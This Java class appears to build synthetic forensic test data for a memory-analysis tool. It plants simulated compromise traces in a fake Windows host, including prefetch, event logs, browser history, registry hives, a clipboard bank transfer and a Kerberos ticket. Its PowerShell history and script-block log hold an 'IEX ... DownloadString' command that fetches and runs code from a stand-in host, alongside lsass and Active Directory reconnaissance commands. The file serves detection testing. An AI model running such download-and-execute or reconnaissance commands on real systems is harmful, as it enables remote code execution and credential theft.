package io.memlake.testdata.fleet;

import io.memlake.testdata.corpus.Corpus;
import io.memlake.testdata.machine.MachineBuilder;
import io.memlake.testdata.process.HandleSpec;
import io.memlake.testdata.process.ProcessSpec;
import io.memlake.testdata.process.Protection;
import io.memlake.testdata.registry.HiveContent;
import io.memlake.testdata.registry.HiveFileWriter;
import io.memlake.testdata.registry.HiveSpec;
import io.memlake.testdata.registry.HiveTree;
import io.memlake.testdata.trace.BrowserDatabases;
import io.memlake.testdata.trace.CertificateWriter;
import io.memlake.testdata.trace.EventLogWriter;
import io.memlake.testdata.trace.ExpandedKey;
import io.memlake.testdata.trace.FileTableWriter;
import io.memlake.testdata.trace.PrefetchWriter;
import io.memlake.testdata.trace.ShortcutWriter;
import io.memlake.testdata.trace.TicketWriter;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.SplittableRandom;

/**
 * What programs of a host left in files, in caches and in the pool, so that every table of traces
 * has rows. Where the sample data are, real files lie in memory beside the made ones: event logs,
 * file records, prefetch files, hives.
 */
public final class TracesOfFiles {
  private static final Instant TIME = Instant.parse("2024-03-05T13:01:10Z");
  private static final String SERVER = "https://cdn-update.example.net/gate";
  private static final String HISTORY =
      "\\Users\\alice\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine"
          + "\\ConsoleHost_history.txt";
  private static final String DEFENDER =
      "\\ProgramData\\Microsoft\\Windows Defender\\Support\\MPLog-20240301-080000.log";

  private static final String BOB_SID = "S-1-5-21-1004336348-1177238915-682003330-1002";
  private static final long CLIP = 0x003A0259L;
  private static final int UNICODE_TEXT = 13;

  /** Real files that each host in turn carries: log, file records, prefetch file, two hives. */
  private static final List<List<String>> REAL =
      List.of(
          List.of(
              "evtx/new-user-security.evtx",
              "ntfs/unicode.mft",
              "prefetch/NOTEPAD.EXE-D8414F97.pf",
              "registry/ez/NTUSER1.DAT",
              "registry/yarp/DeletedDataHive"),
          List.of(
              "evtx/Security_short_selected.evtx",
              "ntfs/slack.mft",
              "prefetch/ONEDRIVE.EXE-7E152375.pf",
              "registry/yarp/UnicodeHive",
              "registry/yarp/BigDataHive"),
          List.of(
              "evtx/system.evtx",
              "ntfs/deleted.mft",
              "prefetch/PING.EXE-B29F6629.pf",
              "registry/ez/UsrClassDeletedBags.dat",
              "registry/yarp/MultiSzHive"),
          List.of(
              "evtx/MSExchange_Management_wec.evtx",
              "ntfs/orphan.mft",
              "prefetch/TASKHOST.EXE-3AE259FC.pf",
              "registry/yarp/StringValuesHive",
              "registry/ez/BCD"),
          List.of(
              "evtx/Application_no_crc32.evtx",
              "ntfs/compressed_sparse.mft",
              "prefetch/CMD.EXE-087B4001.pf",
              "registry/yarp/CompHive",
              "registry/yarp/DeletedTreeHive"));

  private TracesOfFiles() {}

  /**
   * Adds everything to a machine.
   *
   * @param build of its Windows
   * @param number of the host, which chooses among the real files
   * @return names of the real files that it carries
   */
  public static List<String> add(MachineBuilder machine, String host, int build, int number)
      throws IOException {
    made(machine, host, build);
    return real(machine, number);
  }

  private static void made(MachineBuilder machine, String host, int build) {
    machine
        .cachedFile(
            ShortcutWriter.write("C:\\Users\\alice\\Downloads\\invoice.docm", "/n", host, TIME))
        .cachedFile(
            PrefetchWriter.compress(
                PrefetchWriter.write(
                    "POWERSHELL.EXE",
                    0x022A1004,
                    List.of(TIME, TIME.minusSeconds(86_400)),
                    List.of(
                        "\\WINDOWS\\SYSTEM32\\WINDOWSPOWERSHELL\\V1.0\\POWERSHELL.EXE",
                        "\\WINDOWS\\SYSTEM32\\NTDLL.DLL"))))
        .cachedFile(fileTable())
        .cachedFile(powershellLog(host))
        .cachedFile(defenderLog(host))
        .cachedFile(BrowserDatabases.chromium(SERVER, "cdn-update.example.net", TIME))
        .cachedFile(BrowserDatabases.firefox(SERVER, "cdn-update.example.net", TIME))
        .looseFile(unloadedHive())
        .hive(HiveSpec.user(BOB_SID, "bob", certificates()))
        .fileContent(
            HISTORY,
            utf8(
                "whoami /all\r\nGet-ADUser -Filter *\r\nIEX (New-Object Net.WebClient)"
                    + ".DownloadString('"
                    + SERVER
                    + "')\r\n"))
        .fileContent(
            DEFENDER,
            ("\uFEFF2024-03-05T13:01:20.123Z DETECTIONEVENT MPSOURCE_REALTIME"
                    + " Trojan:Win32/Example.A!dha file:C:\\Users\\alice\\AppData\\Local\\Temp"
                    + "\\svchost.exe\r\n"
                    + "2024-03-05T13:01:21.000Z Engine version 1.1.24010.10\r\n")
                .getBytes(StandardCharsets.UTF_16LE))
        .poolData("Uscb", clip("Transfer to DE89 3704 0044 0532 0130 00"))
        .poolData("Uscb", formats())
        .poolData(build < 9200 ? "FVEc" : build < 14393 ? "Cngb" : "None", volumeKey())
        .process(
            new ProcessSpec("notes.exe")
                .parent("explorer.exe")
                .path("C:\\Program Files\\Notes\\notes.exe")
                .handles(HandleSpec.file("C:" + HISTORY), HandleSpec.file("C:" + DEFENDER))
                .privateRegion(0x4000, Protection.READ_WRITE, text()))
        .process(
            new ProcessSpec("klist.exe")
                .parent("explorer.exe")
                .privateRegion(
                    0x2000,
                    Protection.READ_WRITE,
                    TicketWriter.write("CORP.EXAMPLE.NET", "krbtgt/CORP.EXAMPLE.NET", 18, 1100)));
  }

  private static List<String> real(MachineBuilder machine, int number) throws IOException {
    List<String> names = REAL.get(number % REAL.size());
    List<String> carried = new ArrayList<>();
    for (String name : names) {
      Optional<Path> file = Corpus.file(name);
      if (file.isEmpty()) {
        continue;
      }
      byte[] content = Files.readAllBytes(file.get());
      boolean mounted = name.startsWith("registry") && name.equals(names.get(3));
      if (mounted) {
        String root = "\\REGISTRY\\A\\" + name.substring(name.lastIndexOf('/') + 1);
        machine.hive(HiveSpec.withoutFile(root, HiveContent.ofFile(content)));
      } else {
        machine.cachedFile(content);
      }
      carried.add(name);
    }
    return carried;
  }

  private static byte[] fileTable() {
    FileTableWriter table = new FileTableWriter(TIME);
    int users = table.directory(FileTableWriter.ROOT, "Users");
    int alice = table.directory(users, "alice");
    int downloads = table.directory(alice, "Downloads");
    table.file(
        downloads, "invoice.docm", utf8("PK"), "[ZoneTransfer]\r\nZoneId=3\r\nHostUrl=" + SERVER);
    table.file(alice, "todo.txt", utf8("call the bank\r\n"), null);
    return table.toByteArray();
  }

  private static byte[] powershellLog(String host) {
    return new EventLogWriter(
            "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", host)
        .event(
            4104,
            TIME,
            Map.of("ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('x')"))
        .event(4104, TIME.plusSeconds(3), Map.of("ScriptBlockText", "Get-Process lsass"))
        .toByteArray();
  }

  private static byte[] defenderLog(String host) {
    return new EventLogWriter(
            "Microsoft-Windows-Windows Defender/Operational",
            "Microsoft-Windows-Windows Defender",
            host)
        .event(
            1116,
            TIME.plusSeconds(10),
            Map.of("Threat Name", "Trojan:Win32/Example.A!dha", "Path", "file:_C:\\temp\\a.exe"))
        .toByteArray();
  }

  private static byte[] unloadedHive() {
    HiveTree root = HiveTree.root("ROOT").written(TIME);
    root.key("Software\\Gate").text("Server", SERVER).number("Interval", 60);
    return HiveFileWriter.write(root, "gate.dat", TIME).file();
  }

  private static HiveContent certificates() {
    HiveTree root = HiveTree.root("ROOT").written(TIME);
    root.key(
            "Software\\Microsoft\\SystemCertificates\\Root\\Certificates"
                + "\\4F6D1A5B2C3E7F8091A2B3C4D5E6F708192A3B4C")
        .bytes(
            "Blob", CertificateWriter.blob(CertificateWriter.write("Gate Root"), "Gate Root CA"));
    return HiveFileWriter.write(root, "ntuser.dat", TIME);
  }

  /** Handle, locks, size, text. */
  private static byte[] clip(String text) {
    byte[] content = (text + "\0").getBytes(StandardCharsets.UTF_16LE);
    return ByteBuffer.allocate(20 + content.length)
        .order(ByteOrder.LITTLE_ENDIAN)
        .putLong(CLIP)
        .putLong(0)
        .putInt(content.length)
        .put(content)
        .array();
  }

  /** Number, handle and flags of a format. */
  private static byte[] formats() {
    return ByteBuffer.allocate(48)
        .order(ByteOrder.LITTLE_ENDIAN)
        .putLong(UNICODE_TEXT)
        .putLong(CLIP)
        .putLong(0)
        .array();
  }

  /** Two expanded keys behind other members, as for XTS. */
  private static byte[] volumeKey() {
    byte[] keys = new byte[32];
    new SplittableRandom(26).nextBytes(keys);
    ByteBuffer data = ByteBuffer.allocate(0x260);
    for (int i = 0; i < 2; i++) {
      byte[] key = new byte[16];
      System.arraycopy(keys, i * 16, key, 0, 16);
      data.position(0x58 + i * 0x100).put(ExpandedKey.of(key));
    }
    return data.array();
  }

  private static byte[] text() {
    return utf8(
        "ask admin@corp.example.org about http://10.0.0.21:8080/status and www.example.com\r\n"
            + "send 0.1 to 1BoatSLRHtKNngkdXEeobR76b53LETtpyT or"
            + " bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4\r\n-----BEGIN RSA PRIVATE KEY-----\r\n");
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
